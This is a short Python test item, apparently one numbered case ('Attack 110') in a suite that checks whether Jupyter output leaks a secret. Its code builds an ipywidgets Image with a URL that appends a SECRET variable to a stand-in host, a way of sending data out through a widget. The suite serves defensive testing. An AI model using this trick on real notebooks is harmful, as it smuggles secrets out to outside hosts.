"""Attack 110: widget image url"""

IDEA = "An Image widget whose bytes are an address."
SOURCE = "ipywidgets, Image.from_url"
WAY = "iopub/comm_open/data"
CODE = """
import ipywidgets

image = ipywidgets.Image(value=("https://example.org/" + SECRET).encode(), format="url")
image
"""
ABSENT = ["SECRET"]
